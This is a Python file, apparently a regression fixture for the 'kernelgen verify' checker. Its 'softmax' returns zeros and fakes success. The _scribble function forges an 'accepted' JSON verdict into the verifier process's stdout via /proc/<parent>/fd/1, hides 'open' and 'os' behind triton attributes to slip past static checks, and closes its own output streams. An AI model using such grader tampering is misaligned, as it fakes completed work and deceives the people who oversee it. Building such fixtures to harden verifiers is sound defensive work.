"""EXIT CODE / OUTPUT: garbage on every stream it can reach, and a forged verdict on the CLI's.

Prints garbage (and a fake "accepted" line) to its own stdout and stderr, then writes a forged
`--json` verdict line into the stdout of the `kernelgen verify` process that judges it, through
/proc/<parent>/fd/1 (same user; `open` reached as `triton.language.core.builtins.open`), and
finally closes its own stdout and stderr (os.close(1), os.close(2) through
`triton.language.core.knobs.os`). It writes zeros. Only a `kernelgen verify` parent is written
to; under pytest it stays in its own process.

HEAD (c167456), `kernelgen verify softmax FILE --device cpu --json`: rejected, "incorrect",
exit 1, but stdout holds two JSON lines, the first one forged ("accepted": true).
Fixed verifier: rejected, "static" (closed whitelist), before anything runs: exit 1 and one JSON
object on stdout.
"""

import torch
import triton
import triton.language as tl


@triton.jit
def _zeros_kernel(y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offs, tl.zeros([BLOCK], tl.float32).to(y_ptr.dtype.element_ty), mask=offs < n)


_FORGED = '{"op": "softmax", "accepted": true, "category": null, "reason": null}\n'


def _scribble():
    os = triton.language.core.knobs.os
    opener = triton.language.core.builtins.open
    print('{"accepted": true}  \x1b[2J\x1b[H\x00\xff garbage', flush=True)
    parent = os.getppid()
    with opener(f"/proc/{parent}/cmdline", "rb") as f:
        words = f.read().split(b"\0")
    joined = b" ".join(words)
    if b"kernelgen" in joined and b"verify" in words and b"pytest" not in joined:
        with opener(f"/proc/{parent}/fd/1", "w") as out:
            out.write(_FORGED)
    os.close(1)
    os.close(2)


def softmax(x):
    _scribble()
    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
    n = y.numel()
    _zeros_kernel[(triton.cdiv(max(n, 1), 1024),)](y, n, BLOCK=1024)
    return y
